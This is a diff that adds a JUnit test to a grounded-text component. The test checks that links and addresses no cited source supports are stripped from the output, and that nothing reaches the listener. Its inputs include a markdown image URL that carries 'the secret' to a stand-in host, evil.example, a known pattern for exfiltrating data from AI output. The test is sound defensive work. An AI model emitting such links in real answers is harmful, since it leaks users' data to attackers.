@@ -73,6 +73,22 @@ class GroundedTextTest {
         assertThat(told).containsExactly("Boats may land [1].");
     }
 
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "![tide](https://evil.example/?q=the+secret)",
+                "See [more](HTTPS://evil.example)",
+                "//evil.example/secret.png",
+                "Write to mailto://evil.example"
+            })
+    void leavesOutAnAddressThatNoSourceHas(String hostile) {
+        var text = text(Unsupported.MARK);
+        text.append("Boats may land [1]. " + hostile + " [1]. It is 35 metres high [2].");
+
+        assertThat(text.finish(true).text()).isEqualTo("Boats may land [1]. It is 35 metres high [2].");
+        assertThat(String.join("", told)).doesNotContain("evil");
+    }
+
     @Test
     void tellsNothingThatNothingIsCitedFor() {
         var text = text(Unsupported.MARK);
